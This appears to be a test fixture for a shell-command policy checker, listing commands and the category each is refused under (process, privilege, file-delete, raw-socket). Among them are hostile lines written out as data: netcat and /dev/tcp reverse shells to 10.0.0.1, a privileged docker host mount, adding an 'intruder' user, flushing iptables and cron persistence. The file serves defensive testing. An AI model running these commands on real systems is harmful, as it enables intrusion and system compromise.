# presets: educational, data_science
# %%
kill -9 $$ # refused: process
# %%
pkill -f python # refused: process
# %%
killall bash # refused: process
# %%
nohup sleep 100 > /dev/null 2>&1 & # refused: process
# %%
sleep 100 &
disown # refused: process
# %%
setsid sleep 100 # refused: process
# %%
python3 -c 'print(1 + 1)' # refused: process
# %%
perl -e 'print 42' # refused: process
# %%
ruby -e 'puts 1' # refused: process
# %%
node -e 'console.log(1)' # refused: process
# %%
php -r 'echo 1;' # refused: process
# %%
echo 'print(1)' | python3 # refused: process
# %%
python3 - <<'END' # refused: process
print(1)
END
# %%
lua -e 'print(1)' # refused: process
# %%
crontab -l # refused: process
# %%
(crontab -l; echo '* * * * * id') | crontab - # refused: process
# %%
at now <<< 'echo hi' # refused: process
# %%
docker run -it --privileged -v /:/host alpine # refused: process
# %%
sudo -n true # refused: privilege
# %%
su -c 'echo hi' root # refused: privilege
# %%
unshare -r id # refused: privilege
# %%
nsenter -t 1 -m -u -i -n sh -c 'echo hi' # refused: privilege
# %%
chroot /host /bin/true # refused: privilege
# %%
systemctl stop firewalld # refused: system-change
# %%
mount -o remount,rw / # refused: system-change
# %%
useradd -m -s /bin/bash intruder # refused: system-change
# %%
iptables -F # refused: system-change
# %%
gdb -p 1 # refused: process
# %%
gcc x.c -o x # refused: process
# %%
make all # refused: process
# %%
command kill -TERM 12 # refused: process
# %%
p=python3
"$p" -c 'print(1)' # refused: process
# %%
screen -dmS x top # refused: process
# %%
xargs -n1 kill < /dev/null # refused: process
# %%
time perl -e 1 # refused: process
# %%
rm notes.txt # refused: file-delete
# %%
unlink notes.txt # refused: file-delete
# %%
rmdir -p a/b/c # refused: file-delete
# %%
shred -u notes.txt # refused: file-delete
# %%
truncate -s 0 notes.txt # refused: file-delete
# %%
tmp=$(mktemp)
trap 'rm -f "$tmp"' EXIT # refused: file-delete
# %%
cleanup() { rm -rf "$dir"; } # refused: file-delete
dir=$(mktemp -d)
trap cleanup EXIT
# %%
find . -name '*.log' -mtime +7 -delete # refused: file-delete
# %%
find . -name '*.o' -exec rm -f {} + # refused: file-delete
# %%
find . -empty | while read -r f; do rm "$f"; done # refused: file-delete
# %%
git clean -fdx # refused: file-delete
# %%
ls *.bak | xargs -r rm # refused: file-delete
# %%
for f in *.tmp; do
    [ -e "$f" ] && rm -- "$f" # refused: file-delete
done
# %%
nc -e /bin/sh 10.0.0.1 4444 # refused: raw-socket, shell-command
# %%
ncat --listen 8080 # refused: raw-socket
# %%
socat TCP:10.0.0.1:80 STDOUT # refused: raw-socket
# %%
telnet example.com 25 # refused: raw-socket
# %%
exec 5<>/dev/tcp/example.com/80 # refused: raw-socket
# %%
echo hello > /dev/udp/10.0.0.1/53 # refused: raw-socket
# %%
cat < /dev/tcp/10.0.0.1/80 # refused: raw-socket
# %%
host=10.0.0.1 port=4444
bash -i >& /dev/tcp/$host/$port 0>&1 # refused: raw-socket, shell-command
# %%
timeout 1 bash -c '</dev/tcp/10.0.0.1/80' # refused: raw-socket
# %%
openssl s_client -connect example.com:443 # refused: raw-socket
# %%
nmap -sS 10.0.0.0/24 # refused: raw-socket
# %%
awk 'BEGIN { s = "/inet/tcp/0/10.0.0.1/80"; print "x" |& s }' # refused: raw-socket
